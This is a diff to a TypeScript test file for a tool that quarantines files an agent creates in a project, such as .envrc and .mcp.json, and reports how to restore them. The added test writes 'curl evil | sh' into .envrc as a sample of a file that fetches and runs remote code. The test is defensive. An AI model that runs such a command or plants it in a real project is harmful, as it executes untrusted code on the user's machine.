@@ -4,7 +4,7 @@
 // and named when the agent makes it, on both backends; allow_write opens one.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
 import { cli, needs, tempHome, writeFile } from '../helpers.js';
@@ -27,6 +27,29 @@ for (const [name, docker] of [['native', false], ['docker', true]] as const) {
       assert.equal(existsSync(join(dir, '.envrc')), false);
       assert.match(r.stderr, /the agent made .*\/\.envrc, which your own tools would run or obey/);
       assert.doesNotMatch(r.stderr, /could not finish/);
+    });
+
+    test('(review, round 34) a name in the way of the move aside: a folder the agent left at .envrc.stashbase-quarantine does not keep its .envrc in place, and (unlisted) an earlier quarantine of the same name is not overwritten: each moved beside under a numbered name, named; control: the one rename made before fails onto the folder and replaces the file', async () => {
+      const dir = join(t.home, `proj-inway-${name}`);
+      writeFile(join(dir, '.mcp.json.stashbase-quarantine'), 'earlier\n');
+      const r = await run(dir, "mkdir -p .envrc.stashbase-quarantine/x; echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; echo done");
+      assert.equal(r.code, 0, r.stderr);
+      assert.equal(r.stdout, 'done\n');
+      assert.deepEqual([existsSync(join(dir, '.envrc')), readFileSync(join(dir, '.envrc-2.stashbase-quarantine'), 'utf8')], [false, 'curl evil | sh\n']);
+      assert.deepEqual([existsSync(join(dir, '.mcp.json')), readFileSync(join(dir, '.mcp.json-2.stashbase-quarantine'), 'utf8'), readFileSync(join(dir, '.mcp.json.stashbase-quarantine'), 'utf8')], [false, '{}\n', 'earlier\n']);
+      for (const f of ['.envrc', '.mcp.json']) {
+        assert.ok(r.stderr.includes(`the agent made ${join(dir, f)}, which your own tools would run or obey when you next open the folder: it was renamed ${join(dir, f)}-2.stashbase-quarantine; review it, then restore it with: mv ${join(dir, f)}-2.stashbase-quarantine ${join(dir, f)}`), r.stderr);
+      }
+      assert.doesNotMatch(r.stderr, /could not be moved aside/);
+      // Control: the rename the check made before, to the one name, onto what the agent left there.
+      const ctl = join(t.home, `proj-inway-control-${name}`);
+      writeFile(join(ctl, '.envrc'), 'curl evil | sh\n');
+      mkdirSync(join(ctl, '.envrc.stashbase-quarantine', 'x'), { recursive: true });
+      assert.throws(() => renameSync(join(ctl, '.envrc'), join(ctl, '.envrc.stashbase-quarantine')), { code: 'EISDIR' });
+      writeFile(join(ctl, '.mcp.json'), '{}\n');
+      writeFile(join(ctl, '.mcp.json.stashbase-quarantine'), 'earlier\n');
+      renameSync(join(ctl, '.mcp.json'), join(ctl, '.mcp.json.stashbase-quarantine'));
+      assert.equal(readFileSync(join(ctl, '.mcp.json.stashbase-quarantine'), 'utf8'), '{}\n');
     });
 
     test('an existing .vscode/tasks.json cannot be changed; a new .mcp.json, .claude/settings.json and .envrc are moved aside and named', async () => {
